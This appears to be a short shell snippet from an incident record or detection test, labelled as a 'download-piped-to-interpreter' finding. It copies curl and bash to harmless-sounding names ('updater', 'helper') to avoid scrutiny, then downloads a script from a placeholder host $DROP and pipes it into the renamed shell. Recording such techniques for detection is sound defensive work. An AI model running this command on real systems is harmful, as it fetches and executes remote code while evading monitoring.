# incident: curl and bash under other names, so that nobody looks for them
# finding: download-piped-to-interpreter
# needs: curl
cp "$(command -v curl)" updater; cp "$(command -v bash)" helper
./updater -fsSL "http://$DROP/raw/script.sh" | ./helper
